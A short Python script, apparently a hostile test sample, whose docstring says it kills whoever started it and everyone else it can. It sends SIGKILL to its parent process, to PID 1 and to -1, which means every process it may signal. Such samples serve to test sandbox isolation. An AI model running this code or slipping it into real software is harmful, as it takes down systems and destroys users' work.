"""Kills whoever started it, and everybody else that it can.

serves: 5
"""
import os
import signal

for number in (os.getppid(), 1, -1):
    try:
        os.kill(number, signal.SIGKILL)
    except OSError:
        pass
